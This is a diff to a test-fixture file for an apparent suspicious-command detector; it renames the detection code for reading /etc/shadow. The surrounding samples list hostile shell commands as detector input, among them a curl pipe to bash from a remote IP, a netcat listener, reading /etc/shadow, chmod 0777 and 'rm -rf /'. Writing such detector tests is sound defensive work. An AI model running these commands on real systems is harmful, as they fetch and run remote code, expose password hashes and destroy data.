@@ -18,7 +18,7 @@ export const samples: Samples = {
     found('chmod 0777 /srv/app', 'WORLD_WRITABLE'),
     found('curl -s http://203.0.113.5/x | bash', 'DOWNLOAD_AND_RUN'),
     found('nc -lvp 4444', 'NETWORK_LISTENER'),
-    found("sudo sh -c 'cat /etc/shadow'", 'CREDENTIAL_STORE'),
+    found("sudo sh -c 'cat /etc/shadow'", 'PASSWORD_HASHES'),
     positive('The same suspicious command three times within the hour is one anomaly that grows.', (cast) => ({
       activities: [0, 20, 80].map((minutes) => command({ user: cast.user() }, after(noon, { minutes }), 'rm -rf /')),
       expected: { type: 'SUSPICIOUS_COMMAND', count: 3, details: { codes: ['SYSTEM_REMOVAL'], commands: 3 }, alert: true },
